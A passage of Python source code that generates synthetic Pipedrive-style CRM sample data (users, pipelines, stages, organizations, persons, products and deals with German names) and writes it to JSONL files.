    (5, "E-Mail", "email", "email", True, False, None), (6, "Mittagessen", "lunch", "lunch", True, False, None),
    (7, "Produktdemo", "produktdemo", "camera", True, True, "FFC107"),
    (8, "Messebesuch", "messebesuch", "flag", False, True, "4CAF50"),
)

PIPELINES = ((1, "Vertrieb Neukunden", 1, True), (2, "Partner & Verlängerungen", 2, False))
STAGES = (
    # id, pipeline, order, name, probability, rot days
    (1, 1, 1, "Qualifiziert", 10, None), (2, 1, 2, "Bedarfsanalyse", 25, 30), (3, 1, 3, "Angebot versendet", 50, 21),
    (4, 1, 4, "Verhandlung", 75, 14), (5, 1, 5, "Vertrag in Prüfung", 90, None),
    (6, 2, 1, "Erstkontakt", 20, None), (7, 2, 2, "Demo", 40, 30), (8, 2, 3, "Angebot", 60, None),
    (9, 2, 4, "Verlängerung fällig", 80, 10),
)
STAGES_BY_PIPELINE = {1: (1, 2, 3, 4, 5), 2: (6, 7, 8, 9)}
STAGE_PROB = {s[0]: s[4] for s in STAGES}

SAMPLE_PRODUCTS = (
    # name, code, unit, tax, category, prices [(currency, price, cost)], billing
    ("Nordlicht CRM Lizenz (pro Nutzer/Monat)", "NL-CRM-01", "Nutzer", 19, "1", [("EUR", 49, 8), ("CHF", 52, 9)], "monthly"),
    ("Einrichtungspauschale", "NL-SETUP", "Pauschale", 19, "2", [("EUR", 1500, 400)], "one-time"),
    ("Schulung (Tagessatz)", "NL-TRAIN-D", "Tag", 19, "2", [("EUR", 1200, 450)], "one-time"),
    ("Support Plus", "NL-SUP-PLUS", "Jahr", 19, "2", [("EUR", 299, 60)], "annually"),
    ("Kostenloses Testpaket", "NL-TRIAL", "Stück", 0, "1", [("EUR", 0, 0)], "one-time"),
    ("API-Zugang", "NL-API", "Monat", 0, "1", [("USD", 99, 5)], "monthly"),
    ("Hardware-Scanner HS-200", "HW-HS200", "Stück", 19, "3", [("EUR", 349.9, 210)], "one-time"),
    ("Datenmigration", "NL-MIGR", "Projekt", 19, "2", [("EUR", 2500, 900)], "one-time"),
    ("Beratung (Stunde)", "NL-CONS-H", "Stunde", 19, "2", [("EUR", 140, 55)], "one-time"),
    ("Consulting Day UK", "NL-CONS-UK", "day", 20, "2", [("GBP", 950, 380)], "one-time"),
    ("Premium-Hosting (Jahr)", "NL-HOST-P", "Jahr", 7.7, "1", [("CHF", 3600, 1200)], "annually"),
    ("Mobile App Add-on", "NL-MOBILE", "Nutzer", 0, "1", [("USD", 19.99, 2)], "monthly"),
    ("Schnittstelle SAP", "NL-SAP-IF", "Stück", 19, "1", [("EUR", 4900, 1500)], "one-time"),
    ("Lagerverwaltungsmodul", "NL-WMS", "Lizenz", 25, "1", [("SEK", 12000, 3000)], "one-time"),
    ("Wdrożenie (Polska)", "NL-PL-IMPL", "Projekt", 23, "2", [("PLN", 8000, 2600)], "one-time"),
)

CURRENCY_WEIGHTS = (("EUR", 70), ("USD", 9), ("GBP", 7), ("CHF", 9), ("PLN", 3), ("SEK", 2))
FX_TO_EUR = {"EUR": 1.0, "USD": 0.92, "GBP": 1.17, "CHF": 1.04, "PLN": 0.23, "SEK": 0.088, "RUB": 0.01, "PKT": 0.01}


def _weighted(pairs):
    keys = [k for k, _ in pairs]
    cum, total = [], 0
    for _, w in pairs:
        total += w
        cum.append(total)
    return keys, cum


# ---------------------------------------------------------------------------------------------
# the generator


class _Writer:
    def __init__(self, out_dir: Path):
        self.dir = out_dir
        self.files: dict[str, Any] = {}
        self.counts: dict[str, int] = {}

    def write(self, name: str, record: dict[str, Any]) -> None:
        handle = self.files.get(name)
        if handle is None:
            handle = self.files[name] = open(self.dir / f"{name}.jsonl", "w", encoding="utf-8", newline="\n", buffering=1 << 20)
            self.counts[name] = 0
        handle.write(_dumps(record))
        handle.write("\n")
        self.counts[name] += 1

    def touch(self, name: str) -> None:
        if name not in self.files:
            self.files[name] = open(self.dir / f"{name}.jsonl", "w", encoding="utf-8", newline="\n")
            self.counts[name] = 0

    def close(self) -> None:
        for handle in self.files.values():
            handle.close()


class _Account:
    def __init__(self, out_dir: Path, seed: int, scale: int | None):
        self.seed = seed
        self.rng = random.Random(seed)
        self.sample = scale is None
        self.out = _Writer(out_dir)
        if scale is None:
            self.n_users, self.n_orgs, self.n_persons, self.n_products = 5, 40, 120, 15
            self.n_deals, self.n_leads, self.n_activities, self.n_notes, self.dp_target = 70, 10, 120, 90, 80
        else:
            n = max(int(scale), 50)
            self.n_users = min(100, 5 + n // 20000)
            self.n_orgs = max(1, round(0.10 * n))
            self.n_persons = max(1, round(0.40 * n))
            self.n_products = max(1, round(0.01 * n))
            self.n_deals = max(1, round(0.14 * n))
            self.n_leads = max(1, round(0.01 * n))
            self.n_activities = max(1, round(0.20 * n))
            self.n_notes = max(1, round(0.10 * n))
            self.dp_target = round(0.04 * n)
        self.company_slug = COMPANY["company_domain"]
        self._build_fields()
        self.user_ids = list(range(1, self.n_users + 1))
        owner_weights = [25, 30, 25, 12, 8] + [10] * (self.n_users - 5)
        self.owner_keys, self.owner_cum = _weighted(list(zip(self.user_ids, owner_weights)))
        self.cur_keys, self.cur_cum = _weighted(CURRENCY_WEIGHTS)
        self.act_keys, self.act_cum = _weighted(ACTIVITY_TYPE_WEIGHTS)
        # compact per-deal arrays (0 = none)
        self.deal_person = array("i", bytes(4 * (self.n_deals + 1)))
        self.deal_org = array("i", bytes(4 * (self.n_deals + 1)))
        self.deal_time = array("d", bytes(8 * (self.n_deals + 1)))
        self.lead_ids: list[str] = []
        self.product_prices: list[list[tuple[str, float]]] = [[]]
        self.product_names: list[str] = [""]

    # -- helpers --------------------------------------------------------------------------------

    def key(self, entity: str, name: str) -> str:
        return hashlib.sha1(f"pipedrive-sample/{self.seed}/{entity}/{name}".encode()).hexdigest()

    def h(self, kind: int, i: int) -> int:
        return _mix(self.seed * 0x9E3779B97F4A7C15 + kind * 0x100000001B3 + i)

    def owner(self) -> int:
        r = self.rng.random() * self.owner_cum[-1]
        for k, c in zip(self.owner_keys, self.owner_cum):
            if r < c:
                return k
        return self.owner_keys[-1]

    def pick(self, keys, cum):
        r = self.rng.random() * cum[-1]
        for k, c in zip(keys, cum):
            if r < c:
                return k
        return keys[-1]

    def spread(self, i: int, n: int) -> float:
        """add_time for record i of n: increasing with the id, as Pipedrive ids are."""
        step = SPAN / n
        return START + (i - 1) * step + self.rng.random() * step

    def later(self, t: float, max_days: float) -> float:
        return min(SNAPSHOT - 3600, t + self.rng.random() * max_days * DAY)

    def deleted_time(self) -> float:
        return SNAPSHOT - self.rng.random() * 28 * DAY

    # -- identities derived from ids (no storage) --------------------------------------------

    def org_ident(self, oid: int) -> tuple[str, int | None, str]:
        over = ORG_OVERRIDES.get(oid)
        h = self.h(1, oid)
        city = h % len(CITIES)
        core = ORG_CORE[(h >> 8) % len(ORG_CORE)]
        sector = ORG_SECTOR[(h >> 16) % len(ORG_SECTOR)]
        if over:
            city = over["city"]
            name = over["name"]
        else:
            forms = CITIES[city][5]
            name = f"{core} {sector} {forms[(h >> 24) % len(forms)]}"
            if oid > 2000 and (h >> 40) % 3 == 0:
                name = f"{name} {CITIES[city][0]}"
        tld = CITIES[city][6] if city is not None else "com"
        if not over:
            domain = f"{_slug(core)}-{_slug(sector)}.{tld}"
        else:
            domain = over.get("domain") or f"{_slug(name)[:20].strip('.-') or 'firma'}{oid}.{tld}"
        return name, city, domain

    def person_ident(self, pid: int) -> tuple[str, str, str, int, dict | None]:
        over = PERSON_OVERRIDES.get(pid)
        h = self.h(2, pid)
        first = FIRST[h % len(FIRST)]
        last = LAST[(h >> 12) % len(LAST)]
        org = 1 + (h >> 32) % self.n_orgs if (h >> 24) % 100 < 85 else 0
        if over:
            first = over.get("first_name", first)
            last = over.get("last_name", last)
            if "org" in over:
                org = over["org"] if over["org"] <= self.n_orgs else 0
        name = over["name"] if over and "name" in over else f"{first} {last}".strip()
        return first, last, name, org, over

    def person_name(self, pid: int) -> str:
        return self.person_ident(pid)[2]

    def org_name(self, oid: int) -> str:
        return self.org_ident(oid)[0]

    def deal_title(self, did: int) -> str:
        over = DEAL_OVERRIDES.get(did)
        if over and "title" in over:
            return over["title"]
        topic = DEAL_TOPICS[self.h(3, did) % len(DEAL_TOPICS)]
        org = self.deal_org[did]
        if org:
            base = self.org_name(org)
            for form in (" GmbH & Co. KG", " GmbH", " AG", " SE", " KG", " e.K.", " OHG", " UG (haftungsbeschränkt)"):
                if base.endswith(form):
                    base = base[: -len(form)]
                    break
        else:
            base = self.person_name(self.deal_person[did]) or "Unbekannt"
        return f"{base} – {topic}"

    def email_for(self, pid: int, first: str, last: str, org: int) -> str:
        local = ".".join(p for p in (_slug(first), _slug(last)) if p) or f"kontakt{pid}"
        if org:
            return f"{local}@{self.org_ident(org)[2]}"
        return f"{local}@{FREEMAIL[self.h(4, pid) % len(FREEMAIL)]}"

    def phone(self, city: int | None, mobile: bool = False) -> str:
        rng = self.rng
        if city is None:
            return f"+971 4 {rng.randint(200, 999)} {rng.randint(1000, 9999)}"
        prefix = CITIES[city][4]
        if mobile and prefix.startswith("+49"):
            return f"+49 {rng.choice(('151', '160', '170', '176'))} {rng.randint(1000000, 99999999)}"
        style = rng.random()
        num = rng.randint(100000, 9999999)
        if style < 0.7:
            return f"{prefix} {num}"
        if style < 0.85:
            return (prefix + str(num)).replace(" ", "")
        return f"{prefix} {str(num)[:-2]}-{str(num)[-2:]}"

    def address(self, city: int | None) -> dict[str, Any]:
        rng = self.rng
        if city is None:
            city = 0
        c = CITIES[city]
        street = STREETS[rng.randrange(len(STREETS))]
        number = str(rng.randint(1, 180))
        value = f"{street} {number}, {c[1]} {c[0]}"
        return {
            "value": value, "country": c[3], "admin_area_level_1": c[2], "admin_area_level_2": None,
            "locality": c[0], "sublocality": None, "route": street, "street_number": number,
            "subpremise": rng.choice((None, None, None, "3. OG", "Gebäude B")), "postal_code": c[1],
            "formatted_address": f"{street} {number}, {c[1]} {c[0]}, {c[3]}",
        }

    # -- custom fields -------------------------------------------------------------------------

    def _build_fields(self) -> None:
        self.custom: dict[str, list[_Field]] = {}
        self.by_code: dict[str, _Field] = {}
        next_option = 101
        for entity, defs in CUSTOM_FIELDS.items():
            fields = []
            for code, name, ftype, labels, fill in defs:
                options = None
                if labels:
                    options = []
                    for label in labels:
                        options.append(_opt(next_option, label))
                        next_option += 1
                f = _Field(entity, code, name, ftype, self.key(entity, name), options, fill)
                fields.append(f)
                self.by_code[code] = f
            self.custom[entity] = fields

    def cf_value(self, f: _Field, *, currency: str = "EUR", tz: str = "Europe/Berlin", base: float = SNAPSHOT) -> Any:
        rng = self.rng
        t = f.type
        if t == "enum":
            return f.options[rng.randrange(len(f.options))]["id"]
        if t == "set":
            k = rng.randint(1, min(3, len(f.options)))
            return sorted(o["id"] for o in rng.sample(f.options, k))
        if t == "user":
            return rng.choice(self.user_ids)
        if t == "org":
            return rng.randint(1, self.n_orgs)
        if t == "people":
            return rng.randint(1, self.n_persons)
        if t == "date":
            return d(base + rng.randint(-400, 400) * DAY)
        if t == "daterange":
            s = base + rng.randint(0, 200) * DAY
            return {"value": d(s), "until": d(s + rng.randint(14, 365) * DAY)}
        if t == "time":
            return {"value": f"{rng.randint(8, 17):02d}:{rng.choice((0, 15, 30, 45)):02d}:00",
                    "timezone_id": TIMEZONES[tz], "timezone_name": tz}
        if t == "timerange":
            h0 = rng.randint(8, 14)
            return {"value": f"{h0:02d}:00:00", "until": f"{h0 + rng.randint(1, 3):02d}:30:00",
                    "timezone_id": TIMEZONES[tz], "timezone_name": tz}
        if t == "monetary":
            return {"value": rng.randint(5, 500) * 100, "currency": currency}
        if t == "address":
            return self.address(rng.randrange(len(CITIES)))
        if t == "double":
            if f.code == "D_DISCOUNT":
                return rng.choice((2.5, 5, 7.5, 10, 12.5, 15, 20))
            if f.code == "PR_WEIGHT":
                return round(rng.uniform(0.1, 25), 2)
            return round(rng.uniform(100, 600), 1)
        if t == "phone":
            return self.phone(rng.randrange(len(CITIES)), mobile=True)
        # text-like
        code = f.code
        if code == "P_EMAIL":
            return f"{_slug(FIRST[rng.randrange(len(FIRST))])}{rng.randint(1, 99)}@{rng.choice(FREEMAIL)}"
        if code == "O_VAT":
            return rng.choice((f"DE{rng.randint(100000000, 999999999)}", f"ATU{rng.randint(10000000, 99999999)}",
                               f"CHE-{rng.randint(100, 999)}.{rng.randint(100, 999)}.{rng.randint(100, 999)} MWST"))
        if code == "O_ASSOC":
            return rng.choice(("EDEKA", "VDMA", "Bitkom", "IHK München", "BVMW", "Handwerkskammer Köln"))
        if code == "O_PROFILE":
            return ("Familiengeführtes Unternehmen, gegründet " + str(rng.randint(1890, 2015)) +
                    ".\nSchwerpunkt: Mittelstand in der DACH-Region.\n\n• zertifiziert nach ISO 9001\n• ca. "
                    + str(rng.randint(10, 900)) + " Mitarbeitende")
        if code == "D_PO":
            return f"PO-{rng.randint(2021, 2025)}-{rng.randint(1, 9999):04d}"
        if code == "D_REQ":
            return "Anforderungen:\n- Mandantenfähigkeit\n- DSGVO-konformes Hosting in der EU\n- Export nach DATEV"
        if code == "PR_MPN":
            return f"MPN-{rng.randint(10000, 99999)}-{rng.choice('ABCDEFX')}"
        if code == "PR_SPECS":
            return "Abmessungen: 120 × 80 × 40 mm\nSchnittstellen: USB-C, Bluetooth 5.0\nSchutzklasse IP54"
        return f"Wert {rng.randint(1, 999)}"

    def custom_values(self, entity: str, **kw) -> dict[str, Any]:
        rng = self.rng
        out = {}
        for f in self.custom[entity]:
            out[f.key] = self.cf_value(f, **kw) if rng.random() < f.fill else None
        return out

    def v1_flat(self, values: dict[str, Any]) -> dict[str, Any]:
        """v2 custom_fields -> v1 flat lead encoding (unset keys omitted), contract §8.4."""
        out: dict[str, Any] = {}
        for f in self.custom["deal"]:
            v = values.get(f.key)
            if v is None:
                continue
            k = f.key
            t = f.type
            if t == "monetary":
                out[k] = v["value"]
                out[f"{k}_currency"] = v["currency"]
            elif t in ("daterange", "timerange"):
                out[k] = v["value"]
                out[f"{k}_until"] = v["until"]
            elif t == "time":
                out[k] = v["value"]
            elif t == "enum":
                out[k] = str(v)
            elif t == "set":
                out[k] = ",".join(str(x) for x in v)
            elif t == "address":
                out[k] = v["value"]
                for part in ADDRESS_PARTS:
                    out[f"{k}_{part}"] = v.get(part)
            else:
                out[k] = v
        return out

    # -- collections ---------------------------------------------------------------------------

    def write_reference(self) -> None:
        out = self.out
        users = list(USERS)
        h = 0
        for uid in range(6, self.n_users + 1):
            h = self.h(9, uid)
            first, last = FIRST[h % len(FIRST)], LAST[(h >> 12) % len(LAST)]
            users.append((uid, f"{first} {last}", f"{_slug(first)}.{_slug(last)}{uid}@nordlicht-systems.de", None,
                          (h >> 20) % 10 != 0, False, t1(START + (uid % 900) * DAY), t1(SNAPSHOT - (h % 40) * DAY)))
        for uid, name, email, phone, active, admin, created, last_login in users:
            access = [{"app": "sales", "admin": admin, "permission_set_id": f"6f1c{uid:04d}-0000-4000-8000-00000000000{1 if admin else 2}"}]
            if admin:
                access.insert(0, {"app": "global", "admin": True, "permission_set_id": "6f1c0000-0000-4000-8000-000000000000"})
            out.write("users", {
                "id": uid, "name": name, "default_currency": "EUR" if uid != 5 else "GBP", "locale": "de_DE" if uid != 5 else "en_GB",
                "lang": 3 if uid != 5 else 1, "email": email, "phone": phone, "activated": True,
                "last_login": last_login, "created": created, "modified": last_login if active else "2024-10-01 09:00:00",
                "has_created_company": uid == 1, "access": access, "active_flag": active,
                "timezone_name": "Europe/Berlin" if uid != 5 else "Europe/London",
                "timezone_offset": "+02:00" if uid != 5 else "+01:00", "role_id": 1 if admin else 2,
                "icon_url": None if uid % 2 else f"https://eu.pipedrive.com/profile/picture/{uid}/128", "is_you": uid == 1,
                "is_deleted": False,
            })
        for cid, code, name, symbol, dec, active, custom in CURRENCIES:
            out.write("currencies", {"id": cid, "code": code, "name": name, "decimal_points": dec, "symbol": symbol,
                                     "active_flag": active, "is_custom_flag": custom})
        for aid, name, key, icon, active, custom, color in ACTIVITY_TYPES:
            out.write("activityTypes", {
                "id": aid, "order_nr": aid, "name": name, "key_string": key, "icon_key": icon, "active_flag": active,
                "color": color, "is_custom_flag": custom, "add_time": "2021-01-04 08:00:00",
                "update_time": "2023-02-10 14:22:05" if custom else "2021-01-04 08:00:00"})
        self.lead_labels = []
        for i, (name, color) in enumerate((("Heiß", "red"), ("Warm", "orange"), ("Kalt", "blue"), ("Messe 2024", "green"))):
            lid = str(uuid.UUID(int=self.rng.getrandbits(128), version=4))
            self.lead_labels.append(lid)
            out.write("leadLabels", {"id": lid, "name": name, "color": color,
                                     "add_time": tl(START + (i + 1) * 7 * DAY, 100 + i), "update_time": tl(START + 400 * DAY, 250 + i)})
        for pid, name, order, prob in PIPELINES:
            out.write("pipelines", {"id": pid, "name": name, "order_nr": order, "is_deleted": False,
                                    "is_deal_probability_enabled": prob, "add_time": t2(START + (pid - 1) * 200 * DAY),
                                    "update_time": t2(START + 500 * DAY + pid * 3600)})
        for sid, pid, order, name, prob, rot in STAGES:
            out.write("stages", {"id": sid, "order_nr": order, "name": name, "is_deleted": False, "deal_probability": prob,
                                 "pipeline_id": pid, "is_deal_rot_enabled": rot is not None, "days_to_rotten": rot,
                                 "add_time": t2(START + (pid - 1) * 200 * DAY + sid * 60),
                                 "update_time": t2(START + 510 * DAY + sid * 60) if sid % 3 else None})
        for entity, file in FIELD_FILES.items():
            for code, name, ftype, options, sub, optional in SYSTEM_FIELDS[entity]:
                rec = {"field_code": code, "field_name": name, "field_type": ftype, "is_custom_field": False,
                       "is_optional_response_field": optional, "options": options, "subfields": _subfields(sub, name)}
                if entity == "deal":
                    rec["description"] = None
                out.write(file, rec)
            for f in self.custom.get(entity, []):
                rec = {"field_code": f.key, "field_name": f.name, "field_type": f.type, "is_custom_field": True,
                       "is_optional_response_field": False, "options": f.options,
                       "subfields": _subfields(f.type if f.type in SUBFIELDS else None, f.name)}
                if entity == "deal":
                    rec["description"] = "Von Leads übernommen" if f.code == "D_SOURCE" else None
                out.write(file, rec)

    def write_organizations(self) -> None:
        rng, out, n = self.rng, self.out, self.n_orgs
        for oid in range(1, n + 1):
            name, city, domain = self.org_ident(oid)
            over = ORG_OVERRIDES.get(oid, {})
            add = self.spread(oid, n)
            deleted = oid % 40 == 0
            upd = self.deleted_time() if deleted else self.later(add, 500)
            if "address" in over:
                addr = over["address"]
                if addr == "value-only":
                    c = CITIES[city]
                    addr = {"value": f"{c[0]}, Leopoldstr. 5", "country": None, "admin_area_level_1": None,
                            "admin_area_level_2": None, "locality": None, "sublocality": None, "route": None,
                            "street_number": None, "subpremise": None, "postal_code": None, "formatted_address": None}
            else:
                addr = self.address(city) if rng.random() < 0.9 else None
            tz = CITIES[city][7] if city is not None else "Europe/Berlin"
            cf = self.custom_values("organization", tz=tz, base=add)
            if cf[self.by_code["O_PARENT"].key] == oid:
                cf[self.by_code["O_PARENT"].key] = None
            out.write("organizations", {
                "id": oid, "name": name, "owner_id": self.owner(), "add_time": t2(add), "update_time": t2(upd),
                "is_deleted": deleted, "visible_to": 3 if rng.random() < 0.9 else 1,
                "picture_id": None, "label_ids": [ORG_LABELS[rng.randrange(4)]["id"]] if rng.random() < 0.4 else [],
                "address": addr, "website": f"https://www.{domain}" if rng.random() < 0.7 else None,
                "linkedin": f"https://www.linkedin.com/company/{domain.split('.')[0]}" if rng.random() < 0.3 else None,
                "industry": INDUSTRY[rng.randrange(len(INDUSTRY))]["id"] if rng.random() < 0.75 else None,
                "annual_revenue": rng.randint(5, 5000) * 100000 if rng.random() < 0.3 else None,
                "employee_count": rng.choice((5, 12, 25, 48, 120, 250, 800, 2500)) if rng.random() < 0.5 else None,
                "custom_fields": cf,
            })

    def write_persons(self) -> None:
        rng, out, n = self.rng, self.out, self.n_persons
        k_birth = self.by_code["P_BIRTH"].key
        k_assist = self.by_code["P_ASSIST"].key
        for pid in range(1, n + 1):
            first, last, name, org, over = self.person_ident(pid)
            add = self.spread(pid, n)
            deleted = pid % 40 == 0
            upd = self.deleted_time() if deleted else self.later(add, 400)
            city = self.org_ident(org)[1] if org else rng.randrange(len(CITIES))
            if over and "emails" in over:
                emails = [{"value": v, "primary": i == 0, "label": lab} for i, (v, lab) in enumerate(over["emails"])]
            else:
                emails = [{"value": self.email_for(pid, first, last, org), "primary": True, "label": "work"}]
                if rng.random() < 0.1:
                    emails.append({"value": f"{_slug(first) or 'privat'}{rng.randint(1, 99)}@{rng.choice(FREEMAIL)}",
                                   "primary": False, "label": "home"})
            if over and "phones" in over:
                phones = [{"value": v, "primary": i == 0, "label": lab} for i, (v, lab) in enumerate(over["phones"])]
                if pid == 21:
                    phones[0]["primary"] = False  # a list without a primary entry
            else:
                phones = []
                if rng.random() < 0.8:
                    phones.append({"value": self.phone(city), "primary": True, "label": "work"})
                if rng.random() < 0.3:
                    phones.append({"value": self.phone(city, mobile=True), "primary": not phones, "label": "mobile"})
            tz = CITIES[city][7] if city is not None else "Europe/Berlin"
            cf = self.custom_values("person", tz=tz, base=add - 35 * 365 * DAY)
            if over and "birthday_cf" in over:
                cf[k_birth] = over["birthday_cf"]
            if cf[k_assist] == pid:
                cf[k_assist] = None
            synced = rng.random() < 0.25
            out.write("persons", {
                "id": pid, "name": name, "first_name": first, "last_name": last, "owner_id": self.owner(),
                "org_id": org or None, "add_time": t2(add), "update_time": t2(upd), "emails": emails, "phones": phones,
                "is_deleted": deleted, "visible_to": 3 if rng.random() < 0.9 else 1,
                "label_ids": [PERSON_LABELS[rng.randrange(4)]["id"]] if rng.random() < 0.35 else [],
                "picture_id": rng.randint(1000, 9999) if rng.random() < 0.05 else None,
                "custom_fields": cf,
                "notes": "Kontakt über Xing importiert" if synced and rng.random() < 0.3 else None,
                "im": [{"value": f"@{_slug(first) or 'user'}{pid}", "primary": True, "label": "skype"}] if synced and rng.random() < 0.2 else [],
                "birthday": d(START - rng.randint(25, 60) * 365 * DAY) if synced and rng.random() < 0.4 else None,
                "job_title": JOB_TITLES[rng.randrange(len(JOB_TITLES))] if rng.random() < 0.5 else None,
                "postal_address": self.address(city) if synced and rng.random() < 0.5 else None,
                # an optional response field (Pipedrive sends it only when `include_fields` names it); from the
                # id's hash, not the generator's random stream, so that every other value stays as it was
                "marketing_status": MARKETING_STATUSES[self.h(6, pid) % len(MARKETING_STATUSES)],
            })

    def write_products(self) -> None:
        rng, out, n = self.rng, self.out, self.n_products
        for prid in range(1, n + 1):
            if prid <= len(SAMPLE_PRODUCTS):
                name, code, unit, tax, category, prices, billing = SAMPLE_PRODUCTS[prid - 1]
            else:
                h = self.h(5, prid)
                name = f"{ORG_SECTOR[h % len(ORG_SECTOR)]}-Paket {prid}"
                code = f"NL-{prid:06d}"
                unit = ("Stück", "Lizenz", "Stunde", "Tag")[(h >> 8) % 4]
                tax, category = 19, str(1 + (h >> 12) % 3)
                cur = ("EUR", "EUR", "EUR", "USD", "CHF", "GBP")[(h >> 16) % 6]
                price = round(((h >> 20) % 50000) / 10, 2)
                prices = [(cur, price, round(price * 0.4, 2))]
                billing = "one-time"
            add = START + (prid - 1) * (200 * DAY / max(1, n)) + rng.random() * DAY
            upd = self.later(add, 700)
            self.product_prices.append([(c, p) for c, p, _ in prices])
            self.product_names.append(name)
            out.write("products", {
                "id": prid, "name": name, "code": code,
                "description": "Inkl. Updates &amp; Hotline" if prid % 4 == 1 else None, "unit": unit, "tax": tax,
                "category": category, "is_linkable": prid != 5, "is_deleted": False, "visible_to": 3,
                "owner_id": 1 if prid <= 15 else self.owner(), "add_time": t2(add), "update_time": t2(upd),
                "billing_frequency": billing, "billing_frequency_cycles": 12 if billing == "monthly" and prid % 2 else None,
                "prices": [{"product_id": prid, "price": p, "currency": c, "cost": cost, "direct_cost": 0,
                            "notes": "Listenpreis" if i == 0 else "Sonderpreis Schweiz"}
                           for i, (c, p, cost) in enumerate(prices)],
                "custom_fields": self.custom_values("product"),
            })

    def write_deals(self) -> None:
        rng, out, n = self.rng, self.out, self.n_deals
        statuses = (("open", 55), ("won", 25), ("lost", 20))
        st_keys, st_cum = _weighted(statuses)
        ratio = self.dp_target / n if n else 0
        kmax = max(3, int(round(2 * ratio - 1)))
        mean_k = (1 + kmax) / 2
        dp_id = 0
        k_start = self.by_code["D_START"].key
        k_tech = self.by_code["D_TECH"].key
        for did in range(1, n + 1):
            over = DEAL_OVERRIDES.get(did, {})
            archived = did % 11 == 0
            deleted = not archived and did % 16 == 0
            r = rng.random()
            if r < 0.1:
                person, org = 0, rng.randint(1, self.n_orgs)
            else:
                person = rng.randint(1, self.n_persons)
                org = self.person_ident(person)[3]
            if "person" in over and over["person"] <= self.n_persons:
                person = over["person"]
                org = self.person_ident(person)[3]
            if "org" in over and over["org"] <= self.n_orgs:
                org = over["org"]
            if not person and not org:
                org = 1
            self.deal_person[did] = person
            self.deal_org[did] = org
            status = over.get("status") or self.pick(st_keys, st_cum)
            pipeline = 1 if rng.random() < 0.75 else 2
            stages = STAGES_BY_PIPELINE[pipeline]
            if status == "won":
                stage = stages[-1]
            elif status == "open":
                stage = stages[rng.randrange(len(stages) - 1)]
            else:
                stage = stages[rng.randrange(len(stages))]
            add = self.spread(did, n)
            self.deal_time[did] = add
            currency = over.get("currency") or self.pick(self.cur_keys, self.cur_cum)
            # products on the deal
            if "products" in over:
                k = over["products"]
            else:  # steer towards dp_target: chance of having products = what is left / what a deal adds
                q = (self.dp_target - dp_id) / (mean_k * (n - did + 1))
                k = rng.randint(1, kmax) if rng.random() < q else 0
            rows = []
            total = 0.0
            for order in range(1, k + 1):
                prid = rng.randint(1, self.n_products)
                prices = self.product_prices[prid]
                price = next((p for c, p in prices if c == currency), None)
                if price is None:
                    price = round(prices[0][1] * FX_TO_EUR.get(prices[0][0], 1) / FX_TO_EUR.get(currency, 1), 2)
                qty = rng.choice((1, 1, 1, 2, 3, 5, 10, 20, 25))
                discount = rng.choice((0, 0, 0, 5, 10, 15))
                tax_method = rng.choice(("exclusive", "exclusive", "inclusive", "none"))
                tax = 0 if tax_method == "none" else (19 if currency == "EUR" else 0 if currency in ("USD", "GBP") else 8.1)
                gross = price * qty * (1 - discount / 100)
                line_sum = round(gross * (1 + tax / 100) if tax_method == "exclusive" else gross, 2)
                total += line_sum
                dp_id += 1
                dp_add = self.later(add, 10)
                billing = rng.choice(("one-time", "one-time", "monthly", "annually"))
                rows.append({
                    "id": dp_id, "deal_id": did, "product_id": prid, "product_variation_id": None,
                    "name": self.product_names[prid], "order_nr": order, "item_price": price, "quantity": qty,
                    "sum": line_sum, "tax": tax, "tax_method": tax_method, "currency": currency,
                    "discount": discount, "discount_type": "percentage", "is_enabled": rng.random() < 0.95,
                    "comments": "" if rng.random() < 0.8 else "Rabatt laut Rahmenvertrag", "add_time": t2(dp_add),
                    "update_time": t2(self.later(dp_add, 30)), "billing_frequency": billing,
                    "billing_frequency_cycles": 12 if billing == "monthly" and rng.random() < 0.5 else None,
                    "billing_start_date": d(dp_add + 30 * DAY) if billing != "one-time" else None,
                })
            if "value" in over:
                value = over["value"]
            elif rows:
                value = round(total, 2)
            else:
                value = rng.choice((0, 500, 1200, 2500, 4800, 9900, 15000, 24000, 48000, 120000)) if rng.random() < 0.95 else round(rng.uniform(100, 90000), 2)
            won_time = lost_time = close_time = None
            upd = self.later(add, 120)
            if status == "won":
                won_time = close_time = self.later(add, 90)
                upd = self.later(won_time, 20)
            elif status == "lost":
                lost_time = close_time = self.later(add, 90)
                upd = self.later(lost_time, 20)
            archive_time = None
            if archived:
                archive_time = self.later(upd, 60)
                upd = archive_time
            if deleted:
                upd = self.deleted_time()
            stage_change = self.later(add, (upd - add) / DAY) if rng.random() < 0.7 else None
            cf = self.custom_values("deal", currency=currency if currency in FX_TO_EUR else "EUR", base=add)
            if "start_cf" in over:
                cf[k_start] = over["start_cf"]
            if cf[k_tech] is None and person and rng.random() < 0.1:
                cf[k_tech] = person
            exp = over.get("expected_close_date")
            if exp is None and rng.random() < 0.8:
                exp = d(add + rng.randint(14, 150) * DAY)
            record = {
                "id": did, "title": self.deal_title(did), "creator_user_id": self.owner(), "owner_id": self.owner(),
                "value": value, "person_id": person or None, "org_id": org or None, "stage_id": stage,
                "pipeline_id": pipeline, "currency": currency, "add_time": t2(add), "update_time": t2(upd),
                "stage_change_time": t2(stage_change) if stage_change else None,
                "status": "deleted" if deleted else status, "is_deleted": deleted,
                "probability": rng.choice((10, 25, 50, 75, 90)) if rng.random() < 0.3 and status == "open" else None,
                "lost_reason": LOST_REASONS[rng.randrange(len(LOST_REASONS))] if status == "lost" else None,
                "visible_to": 3 if rng.random() < 0.92 else 1,
                "close_time": t2(close_time) if close_time else None, "won_time": t2(won_time) if won_time else None,
                "lost_time": t2(lost_time) if lost_time else None,
                "local_won_date": d(won_time) if won_time else None, "local_lost_date": d(lost_time) if lost_time else None,
                "local_close_date": d(close_time) if close_time else None, "expected_close_date": exp,
                "label_ids": [DEAL_LABELS[rng.randrange(3)]["id"]] if rng.random() < 0.3 else [],
                "origin": rng.choice(("ManuallyCreated",) * 7 + ("API", "Import", "WebForms")),
                "origin_id": None,
                "channel": CHANNELS[rng.randrange(4)]["id"] if rng.random() < 0.4 else None, "channel_id": None,
                "acv": None, "arr": None, "mrr": round(value / 12, 2) if rows and rows[0]["billing_frequency"] == "monthly" else None,
                "is_archived": archived, "archive_time": t2(archive_time) if archive_time else None,
                "custom_fields": cf, "products_count": len(rows),
            }
            out.write("deals_archived" if archived else "deals", record)
            for row in rows:
                out.write("deal_products", row)
        self.out.touch("deal_products")
        self.out.touch("deals_archived")

    def write_leads(self) -> None:
        rng, out, n = self.rng, self.out, self.n_leads
        for i in range(1, n + 1):
            lid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
            self.lead_ids.append(lid)
